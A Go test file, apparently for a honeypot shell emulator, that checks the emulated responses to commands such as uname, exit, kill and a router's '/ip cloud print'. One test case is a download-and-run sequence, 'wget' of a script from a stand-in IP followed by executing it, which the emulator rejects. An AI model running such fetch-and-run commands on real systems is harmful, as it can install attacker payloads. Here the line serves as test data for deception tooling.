@@ -0,0 +1,70 @@
+package proto
+
+import (
+	"bytes"
+	"os"
+	"testing"
+)
+
+// runLine runs line as the shells do, the builtins first.
+func runLine(t *testing.T, line string, interactive bool, logFile *os.File) (exitInfo, string) {
+	var out bytes.Buffer
+	info, ok := emulateBuiltin(line, 0, interactive, &out, logFile, logFile)
+	if ok {
+		return info, out.String()
+	}
+	info, err := emulateCommand([]byte(line), "", Debian, &out, logFile, logFile)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return info, out.String()
+}
+
+func TestEmulateCommand(t *testing.T) {
+	logFile := testLogFile(t)
+
+	cloud := "         ddns-enabled: yes\n ddns-update-interval: none\n          update-time: yes\n       public-address: 93.184.216.34\n  public-address-ipv6: 2b02:610:7501:2000::2\n             dns-name: 529c0491d41c.sn.example.net\n               status: updated\n"
+
+	tests := []struct {
+		line        string
+		interactive bool
+		out         string
+		info        exitInfo
+	}{
+		{"echo ok", false, "ok\n", exitInfo{}},
+		{"true", false, "", exitInfo{}},
+		{"false", false, "", exitInfo{status: 1}},
+		{"uname", false, "Linux\n", exitInfo{}},
+		{"uname -a", false, "Linux debian 3.2.0-4-amd64 #1 SMP Debian 3.2.65-1+deb7u2 x86_64 GNU/Linux\n", exitInfo{}},
+		{"uname -s -n -r", false, "Linux debian 3.2.0-4-amd64\n", exitInfo{}},
+		{"uname -m", false, "x86_64\n", exitInfo{}},
+		{"uname -x", false, "uname: invalid option -- 'x'\nTry 'uname --help' for more information.\n", exitInfo{status: 1}},
+		{"uname x", false, "uname: extra operand 'x'\nTry 'uname --help' for more information.\n", exitInfo{status: 1}},
+		{"/ip cloud print", false, cloud, exitInfo{}},
+		{"/ip address print", false, "", exitInfo{status: 1}},
+		{"wget http://192.0.2.1/x.sh", false, "bash: wget: command not found\n", exitInfo{status: 127}},
+		{"./x.sh", false, "bash: ./x.sh: No such file or directory\n", exitInfo{status: 127}},
+		{"", false, "", exitInfo{}},
+		{"exit", true, "", exitInfo{exited: true}},
+		{"exit 3", false, "", exitInfo{status: 3, exited: true}},
+		{"exit x", false, "bash: exit: x: numeric argument required\n", exitInfo{status: 2, exited: true}},
+		{"logout", true, "", exitInfo{exited: true}},
+		{"logout", false, "bash: logout: not login shell: use `exit'\n", exitInfo{status: 1}},
+		{"kill $$", false, "", exitInfo{status: 143, signal: "TERM", exited: true}},
+		{"kill -9 $$", true, "", exitInfo{status: 137, signal: "KILL", exited: true}},
+		// bash ignores TERM when interactive
+		{"kill $$", true, "", exitInfo{}},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.line, func(t *testing.T) {
+			info, out := runLine(t, tt.line, tt.interactive, logFile)
+			if info != tt.info {
+				t.Errorf("got %+v, want %+v", info, tt.info)
+			}
+			if out != tt.out {
+				t.Errorf("output %q, want %q", out, tt.out)
+			}
+		})
+	}
+}